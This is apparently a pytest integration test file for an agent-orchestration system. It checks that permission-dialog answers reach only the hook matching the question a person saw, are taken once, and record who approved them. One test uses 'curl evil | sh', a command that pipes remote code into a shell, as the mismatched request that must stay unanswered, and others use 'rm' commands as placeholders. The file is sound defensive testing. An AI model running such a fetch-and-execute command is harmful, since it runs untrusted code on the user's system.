"""Answers through a hook that waits: only for the question the person saw, and never for two at once."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from swarm_core.models import Activity, Instance, Source
from swarm_core.ops import dialogs
from swarm_core.store import instances
from swarm_core.swarm import Swarm
from tests.integration.review_fixture import refusal
from tests.world import World


@pytest.fixture
def swarm(world: World) -> Iterator[Swarm]:
    with world.open() as opened:
        yield opened


def asking(world: World, swarm: Swarm, *holds: tuple[str, str], text: str = "Bash command\nrm x") -> Instance:
    """An instance whose hooks wait, and whose screen was read as this question."""
    work, db = world.wait_idle(swarm, world.work(swarm).id), swarm.context.db
    with db.write():
        instances.observe(db, work.id, Activity.BLOCKED, source=Source.HOOK, detail="permission: Bash")
        for hold_id, about in holds:
            dialogs.hold(db, work.id, hold_id, about)
        known: dict[str, Any] = json.loads(instances.get(db, work.id).blocked_on)
        known |= {"text": text, "choices": ["Yes", "No"], "kind": "permission", "digest": "d1"}
        instances.set_fields(db, work.id, blocked_on=json.dumps(known))
    return swarm.find(work.id)


def taken(swarm: Swarm, work: Instance, hold_id: str) -> dict[str, Any] | None:
    with swarm.context.db.write():
        return dialogs.take_answer(swarm.context.db, work.id, hold_id)


def test_of_two_that_wait_neither_is_answered_by_its_hook(world: World, swarm: Swarm) -> None:
    work = asking(world, swarm, ("h1", "rm x"), ("h2", "rm y"))
    assert not dialogs.is_held(work, "h1")
    assert not dialogs.is_held(work, "h2")
    failed = refusal(swarm.answer, work.id, choice=1)
    assert failed.code == "DIALOG_CHANGED", "its screen shows no dialog, so no key is pressed either"
    assert (taken(swarm, work, "h1"), taken(swarm, work, "h2")) == (None, None)


def test_a_hook_about_something_else_than_the_screen_shows_is_not_answered(world: World, swarm: Swarm) -> None:
    work = asking(world, swarm, ("h1", "curl evil | sh"))
    given: list[dict[str, Any] | None] = []
    over = threading.Event()

    def wait() -> None:
        while not over.wait(0.05):
            given.append(taken(swarm, work, "h1"))

    hook = threading.Thread(target=wait)
    hook.start()
    try:
        assert refusal(swarm.answer, work.id, choice=1).code == "DIALOG_CHANGED"
    finally:
        over.set()
        hook.join(20)
    assert set(map(bool, given)) <= {False}


def test_an_answer_that_nobody_takes_is_withdrawn(world: World, swarm: Swarm) -> None:
    work = asking(world, swarm, ("h1", "rm  x"))
    assert refusal(swarm.answer, work.id, choice=1).code == "DIALOG_CHANGED"
    assert taken(swarm, work, "h1") is None
    assert [e for e in swarm.events(limit=50) if e.name == "dialog:answered"] == []


def test_an_answer_is_taken_once_and_told_with_who_gave_it(world: World, swarm: Swarm) -> None:
    work, db = asking(world, swarm, ("h1", "rm x")), swarm.context.db
    with db.write():
        known = json.loads(work.blocked_on)
        told = {"digest": "d1", "question": "Bash command", "choice": 1, "answer": "Yes"}
        given = {"allow": True, "why": "", "by": "kim", "told": told}
        instances.set_fields(db, work.id, blocked_on=json.dumps(known | {"answer": given}))
    assert taken(swarm, work, "h1") == given
    assert taken(swarm, work, "h1") is None
    (event,) = [e for e in swarm.events(limit=50) if e.name == "dialog:answered"]
    assert (event.actor, event.metadata["answer"]) == ("kim", "Yes")


def test_an_answer_that_waits_to_be_taken_is_not_replaced_by_another(world: World, swarm: Swarm) -> None:
    work, db = asking(world, swarm, ("h1", "rm x")), swarm.context.db
    with db.write():
        known = json.loads(work.blocked_on)
        told = {"digest": "d1", "question": "Bash command", "choice": 2, "answer": "No"}
        given = {"allow": False, "why": "", "by": "kim", "told": told}
        instances.set_fields(db, work.id, blocked_on=json.dumps(known | {"answer": given}))
    assert refusal(swarm.answer, work.id, choice=1, digest="d1", actor="ben").code == "DIALOG_CHANGED"
    assert taken(swarm, work, "h1") == given
